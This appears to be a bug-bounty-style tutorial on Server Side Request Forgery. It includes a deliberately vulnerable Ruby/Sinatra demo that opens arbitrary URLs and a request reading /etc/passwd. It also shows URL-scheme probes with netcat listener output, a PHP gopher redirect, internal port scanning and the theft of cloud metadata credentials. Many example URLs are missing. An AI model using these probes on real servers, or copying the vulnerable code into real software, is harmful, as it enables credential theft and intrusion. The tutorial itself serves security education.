SSRF - Server Side Request Forgery (Types and ways to exploit it) Part-1

(Pleaseignore mistakes if any!)

First things first

What is SSRF?

Server Side Request Forgery (SSRF) refers to an attack where in an attacker is able to send a crafted request from a vulnerable web application.

In a simple way - Attacker asks the server to fetch a URL for him

For example -GET /?url= HTTP/1.1

Here fetch from its server

Table of Contents

1. Types of SSRF
2. Test Cases
3. Bypass Whitelisting and Blacklisting
4. Live Example
  1. Types of SSRF -

i. The one which displays response to attacker ( Basic )

ii. The one which does not display response ( Blind )

i. Basic -

As mentioned It displays response to attacker, so after the server fetches the URL asked by attacker for him, it will send the response back to attacker

DEMO (using Ruby)
INSTALL the following package and runthe code

gem install sinatra

require 'sinatra'
require 'open-uri'

get '/' do
format 'RESPONSE: %s', open(params[:url]).read

The above code runs a server on port 4567 ( Took from Jobert’s Post )

So this just opens the file for us
: http://localhost:4567/?url=contacts will open contact file and display response to frontend
: http://localhost:4567/?url=/etc/passwd will open etc/passwd and response toserve
: http://localhost:4567/?url= will request on server and show response

What can we do with SSRF? -

  • SSRF to Reflected XSS
  • Try URL schemas to read internal and make server perform actions (file:///, dict://, ftp://, gopher://..)
  • We can scan for internal networks and ports
  • If it runs on Cloud Instances try to fetch META-DATASSRF to Reflected XSS -

Simply fetch a file from external sites which has malicious payload with content type served as html

Example - http://localhost:4567/?url=

Testing URL schemas -First thing to do when we find an SSRF is to test all the wrapper which are working


file:// -

File is used to fetch file from the file system

If the server block http request to external sites or whitelist you could simply use below URL schemas to make a request

dict:// -

DICT URL scheme is used to refer to definitions or word lists available using the DICT protocol:$ nc -lvp 1337
Connection from [] port 1337 [tcp/*] accepted (family 2, sport 31126)
CLIENT libcurl 7.40.0

sftp:// -

Sftp stands for SSH File Transfer Protocol, or Secure File Transfer Protocol, is a separate protocol packaged with SSH that works in a similar way over a secure connection.$ nc -lvp 1337
Connection from [] port 1337 [tcp/*] accepted (family 2, sport 37146)

ldap:// or ldaps:// or ldapi:// -

LDAP stands for Lightweight Directory Access Protocol. It is an application protocol used over an IP network to manage and access thedistributed directory information service.

tftp:// -

Trivial File Transfer Protocol is a simple lockstep File Transfer Protocol which allows a client to get a file from or put a file onto a remote host nc -lvup 1337
Listening on [] (family 0, port 1337)

gopher:// -

Gopher, is a distributed document delivery service. It allows users to explore, search and retrieve information residing on different locations in a seamless fashion. (host it on
header('Location: gopher://');
?> nc -lvp 1337
Listening on [] (family 0, port 1337)
Connection from [] port 1337 [tcp/*] accepted (family 2, sport 49398)

For more Refer here

Scan for internal networks and ports -

What if they are running someservers in their LAN (Kibana, Elastic Search,MongoDB.. )

Which we can not access from internet directly as firewall blocks them

We use SSRF to access them.

Attacker runs a internal IP and PORT scan and understands more about the target and use it forfurther exploitation

This can some times lead to Remote Code Execution

Example - Found an internal host running an outdated software which has publicly know RCE, we can use it here to perform code execution and same applies for other vulnerabilities

Cloud Instances -


If you find an SSRF in Amazon Could, Amazon expose an internal service every EC2 instance can query for instance metadata about the host. If you found an SSRF vulnerability that runs on EC2, try requesting :This will give our juicy information like Aws keys, ssh keys and more

Refer these for POC- #285380, #53088

For example:-

Google Cloud -

Same for google

Furtherexploiting this can leadto instances takeover

Refer - #341876

DigitalOcean -

Overview about Meta-data

And for other Cloud Instances you can refer Here

./End of part 1